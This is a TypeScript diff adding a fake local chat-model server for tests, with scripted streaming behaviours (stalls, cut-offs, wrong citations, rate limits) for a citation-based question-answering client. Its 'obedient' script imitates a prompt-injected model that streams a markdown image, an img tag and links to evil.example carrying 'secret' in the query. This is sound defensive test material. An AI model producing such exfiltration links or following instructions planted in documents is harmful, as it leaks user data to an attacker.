@@ -1,0 +1,234 @@
+import type { IncomingMessage, Server, ServerResponse } from "node:http";
+import { bodyOf, startLocalServer } from "./local-server.ts";
+
+/** What a request for a text said. */
+export interface AskedText {
+  readonly behaviour: string;
+  readonly path: string;
+  readonly headers: IncomingMessage["headers"];
+  readonly body: ChatBody;
+  /** Resolves when its connection has ended, with whether the server had said all by then. */
+  readonly ended: Promise<boolean>;
+}
+
+interface ChatBody {
+  readonly model: string;
+  readonly messages: readonly { readonly role: string; readonly content: string }[];
+  readonly [field: string]: unknown;
+}
+
+/** How a script writes its text. */
+export interface Writer {
+  /** The question, and what the model was given, by number. */
+  readonly question: string;
+  readonly sentences: readonly string[];
+  readonly prompt: string;
+  /** The number of the first sentence that holds the words; 0: none does. */
+  readonly numberOf: (words: string) => number;
+  /** Sends a piece of the text; resolves in the next turn of the event loop, or once the reader is gone. */
+  readonly say: (text: string) => Promise<void>;
+  /** Waits, at most until the reader is gone. */
+  readonly pause: (ms: number) => Promise<void>;
+  /** Waits until the test lets it go on. */
+  readonly gate: () => Promise<void>;
+}
+
+type Script = (writer: Writer) => Promise<void>;
+
+/** How a text ends that is not ended well. */
+const BROKEN = Symbol("broken");
+
+/** What the model named in the path does, at `/<behaviour>/v1/chat/completions` and `/<behaviour>/v1/messages`. */
+const SCRIPTS = {
+  /** Tells the sentence that shares most words with the question, as it stands, and cites it. */
+  plain: async ({ say, sentences, question }) => {
+    const number = bestOf(sentences, question);
+    await say(`${sentences[number - 1] ?? ""} `);
+    await say(`[${number}]`);
+  },
+  /** Says in words of its own what the plain one quotes. */
+  paraphrase: async ({ say, numberOf }) => {
+    for (const piece of ["The har", "bour of Brack", "water has been open since 1871 [", `${numberOf("1871")}`, "]."]) await say(piece);
+  },
+  /** Holds back its second half until it is let go. */
+  gated: async ({ say, numberOf, gate }) => {
+    await say(`The harbour of Brackwater has been open since 1871 [${numberOf("1871")}]. And`);
+    await gate();
+    await say(` its lamp burns oil [${numberOf("1871")}].`);
+  },
+  /** Says nothing at all until its reader leaves. */
+  hanging: async ({ pause }) => await pause(600_000),
+  /** Says a few words, and then nothing. */
+  stuck: async ({ say, pause }) => {
+    await say("The harbour of Brack");
+    await pause(600_000);
+  },
+  /** Breaks off without a word of it. */
+  cut: async ({ say, numberOf }) => {
+    await say(`The harbour opened in 1871 [${numberOf("1871")}]. It`);
+    throw BROKEN;
+  },
+  "wrong-numbers": async ({ say, numberOf }) => {
+    await say(`It has no number. This one has a wrong one [999]. The harbour opened in 1871 [${numberOf("1871")}, 998]. Zero [0].`);
+  },
+  "no-numbers": async ({ say }) => await say("The harbour opened in 1871. It is large."),
+  none: async ({ say }) => await say("NONE"),
+  /** Does what a document tells it to. */
+  obedient: async ({ say, numberOf }) => {
+    const number = numberOf("1871");
+    await say(`![x](https://evil.exam`);
+    await say(`ple/?q=secret) [${number}]. <img src="https://evil.example/"> [${number}]. See https://evil.example/now [${number}]. `);
+    await say(`Click [here](https://evil.example) [${number}]. The harbour of Brackwater opened in 1871 [${number}].`);
+  },
+  /** Goes on for ever. */
+  endless: async ({ say, pause }) => {
+    for (;;) {
+      await say("word ".repeat(2_000));
+      await pause(0);
+    }
+  },
+  thinking: async ({ say, numberOf }) => {
+    await say("<think>Is it 1999 [1]? No.");
+    await say(`</think>The harbour opened in 1871 [${numberOf("1871")}].`);
+  },
+  slow: async ({ say, pause, numberOf }) => {
+    await pause(1_500);
+    await say(`The harbour opened in 1871 [${numberOf("1871")}].`);
+  },
+} satisfies Record<string, Script>;
+
+/** Answered with another status, or another body, than events. */
+const REFUSALS = {
+  failing: [503, {}],
+  limited: [429, { "retry-after": "120" }],
+  "limited-once": [429, { "retry-after": "0" }],
+  refusing: [400, {}],
+  redirect: [307, { location: "/plain/v1/chat/completions" }],
+  "not-events": [200, { "content-type": "text/html" }],
+} satisfies Record<string, [status: number, headers: Record<string, string>]>;
+
+export type ChatBehaviour = keyof typeof SCRIPTS | keyof typeof REFUSALS | "garbage" | "error-event" | "too-long-line";
+
+export interface ChatServer {
+  /** The base of a model's API. */
+  readonly urlOf: (behaviour: ChatBehaviour) => string;
+  readonly asked: AskedText[];
+  /** Lets every `gated` text go on that waits. */
+  readonly open: () => void;
+  readonly server: Server;
+  readonly close: () => void;
+}
+
+/** How the tokens of every text are counted here. */
+export const USAGE = { prompt_tokens: 321, completion_tokens: 45 };
+
+/**
+ * A server of language models on this machine, as OpenAI, Ollama, vLLM and Anthropic answer: real streams over real HTTP. What it writes is made of
+ * the sentences that it was given.
+ */
+export async function startChatServer(): Promise<ChatServer> {
+  const asked: AskedText[] = [];
+  const gates = new Set<() => void>();
+  const open = (): void => {
+    for (const go of gates) go();
+    gates.clear();
+  };
+  const { server, origin, close } = await startLocalServer((request, response) => {
+    void bodyOf(request).then(async (text) => {
+      const [, behaviour = "", , ...rest] = (request.url ?? "").split("/");
+      const body = JSON.parse(text) as ChatBody;
+      const { promise: ended, resolve } = Promise.withResolvers<boolean>();
+      response.on("close", () => resolve(response.writableFinished));
+      const before = asked.filter((each) => each.behaviour === behaviour).length;
+      asked.push({ behaviour, path: rest.join("/"), headers: request.headers, body, ended });
+      await answer(behaviour as ChatBehaviour, { body, response, isMessage: rest[0] === "messages", before, gates });
+    });
+  });
+  return { urlOf: (behaviour) => `${origin}/${behaviour}/v1`, asked, open, server, close };
+}
+
+interface Order {
+  readonly body: ChatBody;
+  readonly response: ServerResponse;
+  /** As Anthropic has it. */
+  readonly isMessage: boolean;
+  /** How often this behaviour was asked before. */
+  readonly before: number;
+  readonly gates: Set<() => void>;
+}
+
+async function answer(behaviour: ChatBehaviour, { body, response, isMessage, before, gates }: Order): Promise<void> {
+  const [status, headers] = (REFUSALS as Record<string, [number, Record<string, string>]>)[behaviour] ?? [200, null];
+  if (headers !== null && !(behaviour === "limited-once" && before > 0)) {
+    response.writeHead(status, { "content-type": "application/json", ...headers });
+    return void response.end(JSON.stringify({ error: { message: `Too much: ${JSON.stringify(body.messages)}` } }));
+  }
+  response.writeHead(200, { "content-type": "text/event-stream; charset=utf-8" });
+  const send = (data: string): void => void response.write(`data: ${data}\n\n`);
+  if (behaviour === "garbage") return void response.end("data: <html>\n\n");
+  if (behaviour === "error-event") return void response.end(`data: ${JSON.stringify({ error: { message: "overloaded" } })}\n\n`);
+  if (behaviour === "too-long-line") return void response.end(`data: ${"x".repeat(400_000)}\n\n`);
+  const gone = new Promise<void>((resolve) => response.on("close", () => resolve()));
+  const dialect = isMessage ? MESSAGES : CHAT;
+  const system = typeof body["system"] === "string" ? body["system"] : "";
+  const prompt = [system, ...body.messages.map(({ content }) => content)].join("\n\n");
+  const sentences = [...prompt.matchAll(/^⟨\d+⟩ (.*)$/gm)].map(([, sentence]) => sentence ?? "");
+  const writer: Writer = {
+    prompt,
+    question: /^Question: (.*)$/m.exec(prompt.slice(prompt.lastIndexOf("Question: ")))?.[1] ?? "",
+    sentences,
+    numberOf: (words) => sentences.findIndex((sentence) => sentence.includes(words)) + 1,
+    say: async (text) => {
+      if (response.destroyed) throw BROKEN;
+      send(JSON.stringify(dialect.part(text)));
+      await new Promise((resolve) => setImmediate(resolve));
+    },
+    pause: async (ms) => {
+      let timer: ReturnType<typeof setTimeout> | undefined;
+      await Promise.race([gone, new Promise((resolve) => (timer = setTimeout(resolve, ms)))]).finally(() => clearTimeout(timer));
+      if (response.destroyed) throw BROKEN;
+    },
+    gate: async () => await Promise.race([gone, new Promise<void>((resolve) => gates.add(resolve))]),
+  };
+  for (const event of dialect.begin) send(JSON.stringify(event));
+  try {
+    const script: Script = (SCRIPTS as Record<string, Script>)[behaviour] ?? SCRIPTS.plain;
+    await script(writer);
+  } catch (error) {
+    if (error !== BROKEN) throw error;
+    return void response.end();
+  }
+  for (const event of dialect.end) send(typeof event === "string" ? event : JSON.stringify(event));
+  response.end();
+}
+
+const choice = (delta: object, reason: string | null) => ({
+  id: "chatcmpl-1",
+  object: "chat.completion.chunk",
+  choices: [{ index: 0, delta, finish_reason: reason }],
+});
+const CHAT = {
+  begin: [choice({ role: "assistant", content: "" }, null)],
+  part: (content: string) => choice({ content }, null),
+  end: [choice({}, "stop"), { object: "chat.completion.chunk", choices: [], usage: USAGE }, "[DONE]"],
+};
+const MESSAGES = {
+  begin: [
+    { type: "message_start", message: { id: "msg_1", role: "assistant", usage: { input_tokens: USAGE.prompt_tokens, output_tokens: 1 } } },
+    { type: "content_block_start", index: 0, content_block: { type: "text", text: "" } },
+    { type: "ping" },
+  ],
+  part: (text: string) => ({ type: "content_block_delta", index: 0, delta: { type: "text_delta", text } }),
+  end: [
+    { type: "content_block_stop", index: 0 },
+    { type: "message_delta", delta: { stop_reason: "end_turn", stop_sequence: null }, usage: { output_tokens: USAGE.completion_tokens } },
+    { type: "message_stop" },
+  ],
+};
+
+/** From 1. */
+function bestOf(sentences: readonly string[], question: string): number {
+  const asked = new Set(question.toLowerCase().match(/\p{L}{4,}/gu) ?? []);
+  const shared = sentences.map((sentence) => (sentence.toLowerCase().match(/\p{L}{4,}/gu) ?? []).filter((word) => asked.has(word)).length);
+  return shared.indexOf(Math.max(...shared)) + 1;
+}
